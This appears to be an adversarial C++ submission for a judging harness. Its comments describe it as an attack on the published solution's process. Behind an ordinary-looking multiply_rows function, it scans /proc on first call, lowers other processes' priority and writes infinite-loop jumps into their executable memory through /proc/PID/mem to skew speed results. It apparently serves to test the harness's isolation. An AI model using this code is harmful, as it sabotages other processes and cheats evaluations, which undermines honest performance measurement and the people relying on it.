// attack: looks for the published solution's process, to change its memory or to hold it up
// rule: V7
// leg: speed
// expect: ratio <= 1.25
#include <fstream>

namespace {

/// Puts a jump to itself over every function of that process that begins like right_rows.
void patch(int memory, std::size_t begin, std::size_t end) {
  constexpr std::size_t kPrologue = 12;
  std::vector<char> code(end - begin);
  if (pread(memory, code.data(), code.size(), static_cast<off_t>(begin)) <= 0) return;
  const std::string_view all(code.data(), code.size());
  const std::string_view wanted(reinterpret_cast<const char*>(&nibble::right_rows), kPrologue);
  for (std::size_t at = all.find(wanted); at != all.npos; at = all.find(wanted, at + 1)) {
    [[maybe_unused]] const auto done =
        pwrite(memory, "\xeb\xfe", 2, static_cast<off_t>(begin + at));
  }
}

void harm(pid_t pid) {
  setpriority(PRIO_PROCESS, static_cast<id_t>(pid), 19);
  const std::string folder = "/proc/" + std::to_string(pid);
  std::ifstream maps(folder + "/maps");
  const int memory = open((folder + "/mem").c_str(), O_RDWR);
  for (std::string line; std::getline(maps, line);) {
    std::size_t begin = 0, end = 0;
    char access[5] = "";
    if (sscanf(line.c_str(), "%zx-%zx %4s", &begin, &end, access) != 3) continue;
    if (access[2] == 'x' && line.find("child") != line.npos) patch(memory, begin, end);
  }
  if (memory >= 0) close(memory);
}

void harm_all() {
  DIR* const folder = opendir("/proc");
  if (folder == nullptr) return;
  while (const dirent* const entry = readdir(folder)) {
    const pid_t pid = atoi(entry->d_name);
    if (pid > 1 && pid != getpid()) harm(pid);
  }
  closedir(folder);
}

}  // namespace

void nibble::multiply_rows(Codes a, Codes b, Sums c, MatmulShape shape) {
  static bool once = (harm_all(), true);
  (void)once;
  right_rows(a, b, c, shape);
}
